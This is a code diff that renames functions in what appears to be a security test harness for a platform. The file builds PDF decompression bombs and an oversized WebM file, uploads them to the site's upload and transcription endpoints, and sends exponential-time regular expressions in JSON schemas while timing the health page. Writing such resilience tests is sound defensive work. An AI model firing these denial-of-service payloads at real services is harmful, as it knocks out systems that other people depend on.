@@ -1,9 +1,9 @@
 import { deflateSync } from 'node:zlib'
 import type { Intruder } from '../intruder.ts'
-import type { PlatformStrategy, Tools } from '../strategy.ts'
+import type { PlatformStrategy, StrategyTools } from '../strategy.ts'
 
 /** A document whose object streams unfold to 20 MB each, in some kilobytes. */
-function pdfBomb(streams: number): Buffer {
+function buildPdfBomb(streams: number): Buffer {
   const packed = deflateSync(Buffer.alloc(20_000_000, 0x20))
   const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`
   const bombs = Array.from({ length: streams }, (_, n) =>
@@ -27,7 +27,7 @@ async function upload({ client }: Intruder, file: Buffer): Promise<number> {
 }
 
 /** WebM with as many tracks and blocks as a walk may have: a length that costs their product where each block searches its track. */
-function webmBomb(): Buffer {
+function buildWebmBomb(): Buffer {
   const size = (bytes: number): Buffer => {
     const out = Buffer.alloc(8)
     out.writeBigUInt64BE(BigInt(bytes) | (1n << 56n))
@@ -43,34 +43,34 @@ function webmBomb(): Buffer {
 }
 
 /** Requests the health page until it is over, and counts replies that took longer than a card authorisation may wait. */
-async function slowAnswers(site: string, isOver: () => boolean): Promise<{ asked: number; slow: number }> {
+async function countSlowAnswers(site: string, isOver: () => boolean): Promise<{ asked: number; slow: number }> {
   const count = { asked: 0, slow: 0 }
   while (!isOver()) {
     const began = performance.now()
     await fetch(`${site}/healthz`).catch(() => undefined)
     count.asked++
-    if (performance.now() - began > LONGEST_MS) count.slow++
+    if (performance.now() - began > MAX_ANSWER_MS) count.slow++
     await new Promise((done) => setTimeout(done, 20))
   }
   return count
 }
 /** An issuer waits two seconds for an answer about a card. */
-const LONGEST_MS = 2_000
+const MAX_ANSWER_MS = 2_000
 
-async function run({ intruder, must, needs, platform }: Tools): Promise<void> {
+async function run({ intruder, must, needs, platform }: StrategyTools): Promise<void> {
   const attackers = await Promise.all([intruder(5), intruder(5)])
   const site = platform.product.siteUrl
   let isOver = false
-  const watching = slowAnswers(site, () => isOver)
+  const watching = countSlowAnswers(site, () => isOver)
   const { data: made } = await attackers[0]!.client.post('/reward/gptForward/apply')
   needs('a key', typeof made?.apiKey === 'string', made)
   const speak = async (): Promise<number> => {
     const form = new FormData()
     form.append('model', 'gpt-4o-mini-transcribe')
-    form.append('file', new Blob([new Uint8Array(webmBomb())], { type: 'audio/webm' }), 'a.webm')
+    form.append('file', new Blob([new Uint8Array(buildWebmBomb())], { type: 'audio/webm' }), 'a.webm')
     return (await fetch(`${site}/v1/audio/transcriptions`, { method: 'POST', headers: { authorization: `Bearer ${made.apiKey}` }, body: form })).status
   }
-  const [pdf, deep] = [pdfBomb(200), pdfBomb(40)]
+  const [pdf, deep] = [buildPdfBomb(200), buildPdfBomb(40)]
   // a request without an answer is no reason to stop: the watch counts it
   const sent = [...attackers.flatMap((one) => [upload(one, pdf), upload(one, deep)]), speak(), speak()]
   const outcomes = await Promise.all(sent.map((each) => each.catch(() => 0)))
@@ -87,12 +87,12 @@ async function run({ intruder, must, needs, platform }: Tools): Promise<void> {
 /** Patterns on which a backtracking matcher takes exponential time, for the stand-in of a vendor that honours a schema. */
 const PATTERNS = ['^(a+)+$', '^(([a-z])+.)+[A-Z]([a-z])+$', '^(x+x+)+y$', '^(.*)*$', '(?=(a+))a*b\\1', '^((a{0,99}){0,99}){0,99}$', '^(a|a)*$']
 
-async function patterns({ intruder, must, needs, platform }: Tools): Promise<void> {
+async function trySlowPatterns({ intruder, must, needs, platform }: StrategyTools): Promise<void> {
   const one = await intruder(5)
   const { data: made } = await one.client.post('/reward/gptForward/apply')
   const site = platform.product.siteUrl
   let isOver = false
-  const watching = slowAnswers(site, () => isOver)
+  const watching = countSlowAnswers(site, () => isOver)
   const ask = async (pattern: string): Promise<number> => {
     const schema = { type: 'object', properties: { a: { type: 'string', pattern } }, required: ['a'], additionalProperties: false }
     const format = { type: 'json_schema', json_schema: { name: 'a', schema, strict: true } }
@@ -107,7 +107,7 @@ async function patterns({ intruder, must, needs, platform }: Tools): Promise<voi
   if (slow === 0) needs('a pattern that is answered', statuses.includes(200), statuses)
 }
 
-export const FILES: readonly PlatformStrategy[] = [
-  { name: 'hostile-patterns', tries: 'regular expressions of exponential time in the schema of an answer', run: patterns },
+export const FILE_STRATEGIES: readonly PlatformStrategy[] = [
+  { name: 'hostile-patterns', tries: 'regular expressions of exponential time in the schema of an answer', run: trySlowPatterns },
   { name: 'hostile-files', tries: 'documents of large object streams and sound of too many tracks, while the server must answer', run },
 ]
